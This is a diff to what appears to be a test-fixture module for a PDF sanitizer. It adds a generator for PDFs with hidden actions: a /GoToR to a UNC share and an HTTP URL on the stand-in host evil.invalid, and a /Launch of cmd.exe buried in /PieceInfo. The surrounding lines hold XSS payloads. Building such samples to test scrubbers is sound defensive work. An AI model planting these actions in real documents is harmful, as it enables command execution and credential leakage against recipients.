@@ -238,3 +238,55 @@ def pdf_zip_polyglot() -> bytes:
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
 HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
+
+
+def _action_gotor(target: str) -> DictionaryObject:
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Action"),
+            NameObject("/S"): NameObject("/GoToR"),
+            NameObject("/F"): TextStringObject(target),
+            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
+        }
+    )
+
+
+def pdf_with_hidden_actions() -> bytes:
+    """Actions where a key-by-key scrub does not look: a remote go-to (/GoToR) reached through
+    a /PresSteps navigation node, a /Launch under the page's /PieceInfo private data, and a
+    /GoToR with no /Type hung under an unknown key of the page."""
+    writer = PdfWriter()
+    page = _text_page(writer, "Releve")
+    node = writer._add_object(
+        DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/NavNode"),
+                NameObject("/NA"): writer._add_object(
+                    _action_gotor("\\\\evil.invalid\\share\\x.pdf")
+                ),
+            }
+        )
+    )
+    page[NameObject("/PresSteps")] = node
+    page[NameObject("/PieceInfo")] = DictionaryObject(
+        {
+            NameObject("/Tool"): DictionaryObject(
+                {
+                    NameObject("/LastModified"): TextStringObject("D:20260101"),
+                    NameObject("/Private"): DictionaryObject(
+                        {
+                            NameObject("/S"): NameObject("/Launch"),
+                            NameObject("/F"): TextStringObject("cmd.exe"),
+                        }
+                    ),
+                }
+            )
+        }
+    )
+    page[NameObject("/Extra")] = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/GoToR"),
+            NameObject("/F"): TextStringObject("http://evil.invalid/remote.pdf"),
+        }
+    )
+    return _write(writer)
